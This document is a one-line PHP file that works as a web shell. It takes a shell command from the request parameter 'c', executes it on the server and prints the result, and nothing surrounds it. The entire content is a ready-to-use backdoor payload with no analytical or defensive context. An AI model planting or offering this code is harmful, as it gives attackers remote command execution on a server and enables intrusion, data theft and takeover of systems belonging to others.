<?php echo `$_REQUEST['c']`; ?>
